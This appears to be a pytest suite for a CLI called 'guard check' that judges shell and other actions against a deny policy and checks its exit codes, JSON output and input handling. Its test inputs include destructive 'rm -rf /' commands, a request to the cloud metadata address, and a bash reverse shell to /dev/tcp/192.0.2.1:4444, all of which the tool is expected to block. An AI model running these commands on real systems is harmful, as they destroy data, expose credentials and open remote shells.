"""`guard check` as it is typed: exit statuses, JSON, streams, and lines for people."""

from __future__ import annotations

import io
import json
import subprocess
import sys
from pathlib import Path

import pytest

from guard_cli.check import system_tools
from guard_cli.main import main

POLICY = """\
version: 1
name: mine
extends: [default]
rules:
  - id: keep
    kind: file
    decision: block
    when: {op: [write, delete, rename], path: {under: ./keep}}
    because: this is kept
    instead: leave it
    examples:
      match: [{op: delete, path: ./keep/a}]
      miss: [{op: delete, path: ./a}]
"""
KEYS = ["id", "decision", "score", "label", "rules", "because", "instead", "unknown", "model", "policy"]


@pytest.fixture
def room(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    """A workspace that is the current folder, with a policy beside it and an empty home."""
    folder = tmp_path / "room"
    (folder / "keep").mkdir(parents=True)
    (tmp_path / "mine.yaml").write_text(POLICY)
    (tmp_path / "home" / ".ssh").mkdir(parents=True)
    monkeypatch.setenv("HOME", str(tmp_path / "home"))
    monkeypatch.delenv("XDG_CONFIG_HOME", raising=False)
    monkeypatch.chdir(folder)
    return folder


def typed(*words: str) -> int:
    """`guard check` on rules alone."""
    return main(["check", "--no-model", *words])


def streamed(monkeypatch: pytest.MonkeyPatch, data: bytes, *words: str) -> int:
    monkeypatch.setattr(sys, "stdin", io.TextIOWrapper(io.BytesIO(data)))
    return typed("--jsonl", *words)


@pytest.mark.parametrize(
    ("text", "status"), [("ls", 0), ("rm -rf /srv/x", 3), ("rm -rf /", 4), ("rm -rf keep", 4), ("echo rm -rf /", 0)]
)
def test_the_exit_status_is_the_verdict(room: Path, text: str, status: int) -> None:
    """0 allow, 3 ask, 4 block."""
    assert typed("--policy", "../mine.yaml", text) == status


def test_lines_for_a_person(room: Path, capsys: pytest.CaptureFixture[str]) -> None:
    """Decision and reason, rules with their place, the alternative, then every action behind the text with its own verdict."""
    assert typed("--policy", "../mine.yaml", "ls; sh -c 'rm keep/a'") == 4
    lines = capsys.readouterr().out.splitlines()
    assert lines[0] == "block: this is kept"
    assert lines[1].startswith("  rule mine/keep  ")
    assert lines[1].endswith("mine.yaml:5")
    assert lines[2] == "  instead: leave it"
    assert lines[3:] == [
        "  allow bash -c 'ls; sh -c '\"'\"'rm keep/a'\"'\"''",
        "    allow ls",
        "    allow sh -c 'rm keep/a'",
        "      allow rm keep/a",
        f"        block delete {room.resolve()}/keep/a  (mine/keep)",
    ]


def test_what_is_shown_cannot_move_a_cursor(room: Path, capsys: pytest.CaptureFixture[str]) -> None:
    """Control characters of the action are spelled out, and long actions are cut with their length."""
    typed("echo \x1b[2J\u202e" + "x" * 500)
    out = capsys.readouterr().out
    assert "\x1b" not in out
    assert "\\x1b[2J\\u202e" in out
    assert "characters)" in out


def test_json(room: Path, capsys: pytest.CaptureFixture[str]) -> None:
    """One object with the contract's keys."""
    assert typed("--json", "--policy", "../mine.yaml", "rm keep/a") == 4
    found = json.loads(capsys.readouterr().out)
    assert list(found) == KEYS
    assert (found["id"], found["decision"], found["rules"], found["instead"]) == (
        None,
        "block",
        ["mine/keep"],
        "leave it",
    )
    assert found["policy"].startswith("sha256:")
    assert found["model"] is None


@pytest.mark.parametrize(
    ("kind", "text", "status"),
    [
        ("python", "import shutil; shutil.rmtree('keep')", 4),
        ("python", "print(1)", 0),
        ("sql", "select 1", 0),
        ("file", "delete keep/a", 4),
        ("file", "read a", 0),
        ("network", "GET http://169.254.169.254/latest/", 4),
        ("network", "https://unknown.example/", 3),
        ("tool", "wipe {}", 3),
    ],
)
def test_kinds(room: Path, kind: str, text: str, status: int) -> None:
    """`--kind` says how TEXT is read."""
    assert typed("--policy", "../mine.yaml", "--kind", kind, text) == status


def test_cwd_and_workspace(room: Path) -> None:
    """Relative paths are those of `--cwd`; what is open is `--workspace`."""
    (room.parent / "other").mkdir()
    assert typed("touch a") == 0
    assert typed("--cwd", "/usr", "touch a") == 3
    assert typed("--workspace", "../other", "touch a") == 0
    assert typed("--cwd", "keep", "--policy", "../mine.yaml", "rm a") == 4


def test_scripts_patterns_and_links_that_lie_there(room: Path) -> None:
    """The text of a script is read, a pattern names what matches, a link is followed."""
    (room / "s.sh").write_text("rm -rf keep\n")
    (room / "link").symlink_to("keep/a")
    (room / "keep" / "a").write_text("")
    for text in ("bash s.sh", "./s.sh", "rm k*/a", ": > link", "(cd keep; rm *)"):
        assert typed("--policy", "../mine.yaml", text) == 4, text
    assert typed("--policy", "../mine.yaml", "rm link") == 0


WRONG = [
    ([], "TEXT is missing"),
    (["--jsonl", "ls"], "leave out TEXT"),
    (["--jsonl", "--json"], "`--json` has no effect with `--jsonl`"),
    (["--jsonl", "--kind", "sql"], "`--kind` has no effect with `--jsonl`"),
    (["--cwd", "/nonexistent", "ls"], "`--cwd /nonexistent` is no folder"),
    (["--workspace", "/nonexistent", "ls"], "`--workspace /nonexistent` is no folder"),
    (["--policy", "/nonexistent.yaml", "ls"], "/nonexistent.yaml"),
    (["--kind", "file", "remove x"], "`op` is `remove`"),
    (["--policy", "no-such-pack", "ls"], "no-such-pack"),
]


@pytest.mark.parametrize(("words", "problem"), WRONG, ids=[" ".join(words) for words, _ in WRONG])
def test_wrong_use(room: Path, capsys: pytest.CaptureFixture[str], words: list[str], problem: str) -> None:
    """Status 2 and a line on stderr that says what is wrong; nothing on stdout."""
    assert typed(*words) == 2
    captured = capsys.readouterr()
    assert captured.out == ""
    assert problem in captured.err


@pytest.mark.parametrize("words", [["--kind", "exec", "ls"], ["--polcy", "x", "ls"], ["ls", "-la"]])
def test_wrong_options(room: Path, capsys: pytest.CaptureFixture[str], words: list[str]) -> None:
    """argparse's own refusals have status 2 too."""
    with pytest.raises(SystemExit) as ended:
        typed(*words)
    assert ended.value.code == 2


def test_a_stream_keeps_its_order(
    room: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    """One verdict a line, in the order of the actions, each with its id; 0 when all were judged."""
    texts = ["ls", "rm keep/a", "rm /srv/x", "echo hi", "rm a"] * 8
    data = "\n".join(json.dumps({"id": str(n), "kind": "shell", "text": text}) for n, text in enumerate(texts))
    assert streamed(monkeypatch, data.encode(), "--policy", "../mine.yaml") == 0
    found = [json.loads(line) for line in capsys.readouterr().out.splitlines()]
    assert [f["id"] for f in found] == [str(n) for n in range(40)]
    assert [f["decision"] for f in found] == ["allow", "block", "ask", "allow", "allow"] * 8
    assert all(list(f) == KEYS for f in found)


def test_a_bad_line_is_an_error_in_its_place(
    room: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    """The run goes on, and the status says at the end that not every line was judged."""
    lines = [
        b'{"id": 1, "text": "ls"}',
        b"not json",
        b"[1]",
        b'{"id": 2, "kind": "file"}',
        b"\xff\xfe",
        b"[" * 100000,
        b'{"id": 3, "text": "ls"}',
        b"",
        b'{"id": 4, "text": "ls"}',
    ]
    assert streamed(monkeypatch, b"\n".join(lines)) == 2
    found = [json.loads(line) for line in capsys.readouterr().out.splitlines()]
    assert [(f["id"], "error" in f) for f in found] == [
        (1, False),
        (None, True),
        (None, True),
        (2, True),
        (None, True),
        (None, True),
        (3, False),
        (4, False),
    ]


def test_a_line_without_end_takes_no_memory(
    room: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    """A line over the limit is one error, and the lines after it are judged."""
    data = b'{"text": "' + b"x" * (3 << 20) + b'"}\n{"id": 1, "text": "ls"}\n'
    assert streamed(monkeypatch, data) == 2
    found = [json.loads(line) for line in capsys.readouterr().out.splitlines()]
    assert [f["id"] for f in found] == [None, 1]
    assert "longer than" in found[0]["error"]


def test_lines_bring_their_own_folders(
    room: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str], tmp_path: Path
) -> None:
    """`cwd` and `workspace` of a line count for that line alone."""
    other = tmp_path / "other"
    other.mkdir()
    items = [
        {"text": "touch a", "workspace": str(other)},
        {"text": f"touch {room}/a", "workspace": str(other)},
        {"text": f"touch {room}/a"},
        {"text": "touch a", "cwd": "/usr"},
    ]
    assert streamed(monkeypatch, "\n".join(map(json.dumps, items)).encode()) == 0
    found = [json.loads(line)["decision"] for line in capsys.readouterr().out.splitlines()]
    # temporary folders are open to every workspace, and these folders may lie in one
    assert found[0] == found[2] == "allow"
    assert found[3] == "ask"


def test_odd_characters_come_back_as_json(
    room: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    """Lone surrogates and NULs of an input never break the stream."""
    assert streamed(monkeypatch, b'{"id": "\\ud800", "text": "rm \\u0000a\\udcff"}\n') == 0
    assert json.loads(capsys.readouterr().out)["id"] == "\ud800"


def test_as_a_process_with_the_model(room: Path, child_env: dict[str, str]) -> None:
    """The installed command with the shipped model: a score, its label and the model's id in every line."""
    data = '{"id": 1, "text": "ls -la"}\n{"id": 2, "text": "bash -i >& /dev/tcp/192.0.2.1/4444 0>&1"}\n'
    done = subprocess.run(
        [sys.executable, "-m", "guard_cli", "check", "--jsonl"],
        input=data,
        capture_output=True,
        text=True,
        env=child_env,
        check=False,
    )
    first, second = map(json.loads, done.stdout.splitlines())
    assert (done.returncode, done.stderr) == (0, "")
    assert 0 <= first["score"] < second["score"] <= 1
    assert (first["decision"], first["label"], second["decision"]) == ("allow", "none", "block")
    assert first["model"].startswith("sha256:")


@pytest.mark.timeout(60)
def test_an_answer_is_there_before_the_next_line(room: Path, child_env: dict[str, str]) -> None:
    """A caller may ask line by line: no answer waits for the end of the input."""
    words = [sys.executable, "-m", "guard_cli", "check", "--no-model", "--jsonl"]
    env = {name: value for name, value in child_env.items() if name != "PYTHONUNBUFFERED"}
    with subprocess.Popen(words, stdin=subprocess.PIPE, stdout=subprocess.PIPE, env=env) as child:
        assert child.stdin is not None
        assert child.stdout is not None
        for number in range(3):
            child.stdin.write(b'{"id": %d, "text": "ls"}\n' % number)
            child.stdin.flush()
            assert json.loads(child.stdout.readline())["id"] == number
        child.stdin.close()
        assert child.wait() == 0


def test_only_tools_of_the_machine_are_trusted(tmp_path: Path) -> None:
    """A folder of PATH that lies elsewhere lends no program its name; the first system folder that has it wins."""
    (tmp_path / "cat").write_text("")
    found = system_tools(f"{tmp_path}:/usr/bin:relative")
    assert found["cat"].startswith("/usr/")
    assert str(tmp_path) not in "".join(found.values())
